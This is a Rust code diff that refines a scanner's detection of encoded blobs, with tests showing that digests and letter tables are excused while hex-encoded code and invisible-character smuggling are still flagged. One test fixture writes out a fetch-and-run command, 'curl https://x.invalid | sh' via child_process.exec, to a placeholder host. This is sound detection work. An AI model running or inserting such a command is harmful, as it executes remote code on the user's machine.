@@ -173,7 +173,10 @@ pub(crate) fn blob_kind(s: &str) -> Option<(BlobKind, f32)> {
     }
     let hex = b.iter().all(u8::is_ascii_hexdigit);
     if hex {
-        return Some((BlobKind::Hex, entropy(b)));
+        // A run of one or two digits (`000…0`, padding, masks) encodes nothing: hex of real
+        // bytes (a payload, ASCII code) spreads over the alphabet, ≥ 3 bits per character.
+        let e = entropy(b);
+        return (e >= MIN_HEX_ENTROPY && !is_digest(b)).then_some((BlobKind::Hex, e));
     }
     if b.len() >= 100 {
         let body = s.trim_end_matches('=');
@@ -189,7 +192,52 @@ pub(crate) fn blob_kind(s: &str) -> Option<(BlobKind, f32)> {
         }
     }
     let e = entropy(b);
-    (e >= 5.0).then_some((BlobKind::HighEntropy, e))
+    (e >= 5.0 && !is_letter_table(s)).then_some((BlobKind::HighEntropy, e))
+}
+
+/// A hash written as hex (an integrity table, a pinned checksum): exactly a digest's length
+/// (MD5, SHA-1, SHA-256, SHA-384, SHA-512) and uniformly random bytes. Encoded code or text
+/// is neither random nor, split into digest-sized pieces, spread over all sixteen high
+/// nibbles: ASCII keeps them within `2`–`7`. Random-looking ciphertext passes as a digest,
+/// but it needs a key and a decryption step, which `new-decode-exec` judges.
+fn is_digest(hex: &[u8]) -> bool {
+    // Fewest distinct high nibbles per digest size: random bytes fall below it less than
+    // once in a hundred (MD5), a hundred (SHA-1) or ten thousand (longer) times; ASCII text,
+    // control characters included, has at most seven (`0`, `2`–`7`).
+    let need = match hex.len() {
+        32 => 8,
+        40 => 9,
+        64 | 96 | 128 => 10,
+        _ => return false,
+    };
+    let mut high = [false; 16];
+    for pair in hex.chunks_exact(2) {
+        if let Some(d) = (pair[0] as char).to_digit(16) {
+            high[d as usize] = true;
+        }
+    }
+    high.iter().filter(|h| **h).count() >= need
+}
+
+/// Below this, a hex string is a repeated digit or two, not encoded bytes.
+const MIN_HEX_ENTROPY: f32 = 3.0;
+
+/// A table of letters from many scripts (`ªµºÀ-ÖØ-öø-ˁ…`, parsers' identifier-start tables):
+/// high entropy in UTF-8 by nature, yet every character is a visible letter or a range dash.
+/// Encoders produce ASCII, and the invisible-character smuggling shapes (variation selectors,
+/// private-use and tag characters) are not letters, so neither is excused here.
+fn is_letter_table(s: &str) -> bool {
+    let (mut chars, mut letters, mut non_ascii) = (0usize, 0usize, 0usize);
+    for c in s.chars() {
+        chars += 1;
+        if c.is_alphabetic() || c == '-' {
+            letters += 1;
+        }
+        if !c.is_ascii() {
+            non_ascii += 1;
+        }
+    }
+    chars > 0 && letters * 100 >= chars * 95 && non_ascii * 2 >= chars
 }
 
 #[cfg(test)]
@@ -234,15 +282,78 @@ mod tests {
     fn blobs() {
         let b64 = "SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBsb25nIGJhc2U2NCBlbmNvZGVkIHN0cmluZyB0aGF0IGdvZXMgb24gYW5kIG9uIGFuZCBvbiE=";
         assert_eq!(blob_kind(b64).map(|b| b.0), Some(BlobKind::Base64));
-        assert_eq!(
-            blob_kind(&"ab12".repeat(20)).map(|b| b.0),
-            Some(BlobKind::Hex)
-        );
+        let bytes_hex: String = (0u8..40)
+            .map(|b| format!("{:02x}", b.wrapping_mul(37)))
+            .collect();
+        assert_eq!(blob_kind(&bytes_hex).map(|b| b.0), Some(BlobKind::Hex));
         assert_eq!(blob_kind("short"), None);
         let prose =
             "this is a perfectly ordinary error message that happens to be rather long indeed";
         assert_eq!(blob_kind(prose), None);
         assert!(entropy(b"aaaa") < 0.01);
+        // Zeros are not an encoding; hex of text is.
+        assert_eq!(blob_kind(&"0".repeat(64)), None);
+        let hex_js: String = "require('https').get('https://x.invalid/')"
+            .bytes()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        assert_eq!(blob_kind(&hex_js).map(|b| b.0), Some(BlobKind::Hex));
+    }
+
+    #[test]
+    fn digests_are_not_blobs_but_code_cut_to_digest_length_is() {
+        use sha2::Digest;
+        for input in [&b"phantomjs-2.1.1-linux-x86_64.tar.bz2"[..], b"", b"a"] {
+            let sha256 = hex::encode(sha2::Sha256::digest(input));
+            let sha512 = hex::encode(sha2::Sha512::digest(input));
+            assert_eq!(blob_kind(&sha256), None, "{sha256}");
+            assert_eq!(blob_kind(&sha512), None, "{sha512}");
+        }
+        // A payload in 64-character pieces: each piece is hex of ASCII.
+        let code: String = "require('child_process').exec('curl https://x.invalid | sh')"
+            .bytes()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        for piece in code.as_bytes().chunks_exact(64) {
+            let piece = std::str::from_utf8(piece).unwrap_or_default();
+            assert_eq!(
+                blob_kind(piece).map(|b| b.0),
+                Some(BlobKind::Hex),
+                "{piece}"
+            );
+        }
+    }
+
+    #[test]
+    fn letter_tables_are_not_blobs_but_invisible_characters_are() {
+        // The shape of an identifier-start table (many scripts, ranges).
+        let table: String = (0x00c0u32..0x3000)
+            .step_by(29)
+            .filter_map(char::from_u32)
+            .filter(|c| c.is_alphabetic())
+            .flat_map(|c| [c, '-'])
+            .collect();
+        assert!(entropy(table.as_bytes()) >= 5.0);
+        assert_eq!(blob_kind(&table), None);
+        // Variation selectors and private-use characters (invisible-payload smuggling) are
+        // not letters, so they are never excused as a table.
+        let smuggled: String = (0..200u32)
+            .filter_map(|i| {
+                char::from_u32(if i % 2 == 0 {
+                    0xFE00 + i % 16
+                } else {
+                    0xE000 + i
+                })
+            })
+            .collect();
+        assert!(!is_letter_table(&smuggled));
+        // Nor is a table with code mixed in: base64 between the letters stays a blob.
+        let mixed: String = table
+            .chars()
+            .zip("SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBsb25n+/=".chars().cycle())
+            .flat_map(|(a, b)| [a, b])
+            .collect();
+        assert_eq!(blob_kind(&mixed).map(|b| b.0), Some(BlobKind::HighEntropy));
     }
 
     #[test]
